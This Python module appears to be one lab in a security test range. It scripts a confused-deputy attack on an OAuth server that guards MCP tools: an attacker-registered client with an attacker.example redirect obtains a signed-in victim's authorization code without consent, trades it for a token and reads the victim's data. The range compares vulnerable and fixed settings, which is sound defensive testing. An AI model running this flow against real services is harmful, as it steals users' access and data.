"""L17, confused deputy: a link to a signed-in user gives a stranger's client a code, because nobody asks the user."""

from __future__ import annotations

import base64
import hashlib
import re
import secrets
from html import unescape
from typing import ClassVar
from urllib.parse import parse_qs, urlencode, urlsplit

import msgspec

from doorward.identity.metadata import FEDERATED, endpoint_path
from doorward.range.gate import Tables
from doorward.range.lab import Attempt, Lab
from doorward.range.stage import PAUSE_SECONDS, Stage
from doorward.range.wire import Answer, Fields, NoAnswerError, exchange, request_bytes

_SINKS = ("https://attacker.example/callback", "http://127.0.0.1/callback")
_FORM, _JSON = "application/x-www-form-urlencoded", "application/json"
_HIDDEN = re.compile(r'name="(transaction|ticket)" value="([^"]*)"')


class ConfusedDeputy(Lab):
    """The attacker registers a client, and the victim, who is signed in, follows a link of the attacker's."""

    name: ClassVar[str] = "L17"
    vulnerable: ClassVar[Tables] = {"controls.ask-consent": {"mode": "off"}}
    fixed: ClassVar[Tables] = {"controls.ask-consent": {"mode": "enforce"}}

    async def attack(self, stage: Stage, session: str) -> list[Attempt]:
        try:
            victim = stage.fresh("victim")
            cookie = await _sign_in(stage, victim)
            client = await _register(stage)
            return [
                await _follow(stage, victim, cookie, client, sink, server)
                for sink in _SINKS
                for server in (stage.server, FEDERATED)
            ]
        except (NoAnswerError, KeyError, ValueError, msgspec.MsgspecError) as trouble:
            return [Attempt("a link", "inconclusive", f"{type(trouble).__name__}: {trouble}")]


async def _follow(stage: Stage, victim: str, cookie: str, client: str, sink: str, server: str) -> Attempt:
    """One link. Exploited: its code became a token with which the attacker reads as the victim."""
    variant = (
        f"a link that leads to {urlsplit(sink).scheme}://{urlsplit(sink).netloc}, for {endpoint_path(server)}"
    )
    verifier, before, mark = secrets.token_urlsafe(32), stage.upstream.requests, len(stage.records)
    digest = hashlib.sha256(verifier.encode()).digest()
    resource = f"http://{stage.gate.authority}{endpoint_path(server)}"
    query = {
        "response_type": "code", "client_id": client, "redirect_uri": sink, "resource": resource, "state": "s",
        "code_challenge": base64.urlsafe_b64encode(digest).rstrip(b"=").decode(), "code_challenge_method": "S256",
    }  # fmt: skip
    answer = await _send(stage, variant, "GET", f"/oauth/authorize?{urlencode(query)}", cookie=cookie)
    code = parse_qs(urlsplit(answer.fields.get("location", "")).query).get("code", [""])[0]
    if code:
        form = {
            "grant_type": "authorization_code", "client_id": client, "code": code, "redirect_uri": sink,
            "resource": resource, "code_verifier": verifier,
        }  # fmt: skip
        told = await _send(stage, variant, "POST", "/oauth/token", urlencode(form).encode(), _FORM)
        token = str(msgspec.json.decode(told.body)["access_token"])
        return await _read(stage, variant, token, server)
    names_it = urlsplit(sink).netloc.encode() in answer.body and b"/oauth/consent" in answer.body
    event = await stage.recorded(mark, "consent-asked", victim, PAUSE_SECONDS)
    asked = answer.status == 200 and "location" not in answer.fields and names_it and bool(event)
    quiet = stage.upstream.requests == before
    why = f"status {answer.status}, the user is {'asked' if asked else 'not asked'}"
    return Attempt(variant, "blocked" if asked and quiet else "inconclusive", why, event)


async def _read(stage: Stage, variant: str, token: str, server: str) -> Attempt:
    """Read a record with the stolen token."""
    fields: Fields = [("Authorization", f"Bearer {token}")]
    session = ""
    if stage.era == "legacy":
        session = await _open(stage, variant, fields, server)
    marker = stage.fresh("stolen")
    tool = "read_record" if server == stage.server else f"{stage.server}__read_record"
    message = stage.call(tool, id="1", marker=marker)
    answer = await stage.post(variant, message, [*stage.fields_of(message, session), *fields], server=server)
    got = answer.is_result and stage.leaks(answer) and stage.upstream.saw(marker)
    outcome = f"status {answer.status} with the stolen token"
    return Attempt(variant, "exploited" if got else "inconclusive", outcome, leaked=stage.leaks(answer))


async def _open(stage: Stage, variant: str, fields: Fields, server: str) -> str:
    """A session of the older era at this endpoint."""
    opening = {
        "protocolVersion": "2025-11-25",
        "capabilities": {},
        "clientInfo": {"name": "x", "version": "1"},
    }
    message = stage.message("initialize", opening)
    answer = await stage.post(variant, message, [*stage.fields_of(message), *fields], server=server)
    session = answer.fields.get("mcp-session-id", "")
    done = stage.message("notifications/initialized", number=None)
    await stage.post(variant, done, [*stage.fields_of(done, session), *fields], server=server)
    return session


async def _sign_in(stage: Stage, victim: str) -> str:
    """The cookie of a browser at which the victim is signed in."""
    link = urlsplit(await stage.gate.login_link(victim))
    stage.gate.issued.append(link.query.partition("=")[2])
    page = await _send(stage, "the victim signs in", "GET", f"{link.path}?{link.query}")
    form = {name: unescape(value) for name, value in _HIDDEN.findall(page.body.decode())}
    first = page.fields["set-cookie"].partition(";")[0]
    done = await _send(
        stage, "the victim signs in", "POST", "/oauth/login", urlencode(form).encode(), _FORM, cookie=first
    )
    cookie = done.fields["set-cookie"].partition(";")[0]
    return cookie


async def _register(stage: Stage) -> str:
    """The attacker's client."""
    body = msgspec.json.encode(
        {
            "client_name": "A helpful program",
            "redirect_uris": list(_SINKS),
            "token_endpoint_auth_method": "none",
        }
    )
    answer = await _send(stage, "the attacker registers", "POST", "/oauth/register", body, _JSON)
    return str(msgspec.json.decode(answer.body)["client_id"])


async def _send(
    stage: Stage, variant: str, verb: str, path: str, body: bytes = b"", kind: str = "", cookie: str = ""
) -> Answer:
    """One request outside of MCP, put into the transcript. Raises: NoAnswerError."""
    lines: Fields = [("Host", stage.gate.authority), ("Connection", "close")]
    lines += [("Cookie", cookie)] if cookie else []
    lines += [("Content-Type", kind), ("Content-Length", str(len(body)))] if kind else []
    answer = await exchange(stage.gate.host, stage.gate.port, request_bytes(verb, path, lines, body))
    _hide(stage, answer)
    stage.note(variant, f"{verb} {path}", lines, body, answer)
    return answer


def _hide(stage: Stage, answer: Answer) -> None:
    """Keep what opens something out of the transcript."""
    found = [answer.fields.get("set-cookie", "").partition(";")[0].partition("=")[2]]
    found += parse_qs(urlsplit(answer.fields.get("location", "")).query).get("code", [])
    if answer.fields.get("content-type", "") == _JSON:
        said = msgspec.json.decode(answer.body)
        found += [str(said[name]) for name in ("access_token", "refresh_token") if name in said]
    stage.gate.issued += [one for one in found if one and one not in stage.gate.issued]


LAB = ConfusedDeputy()
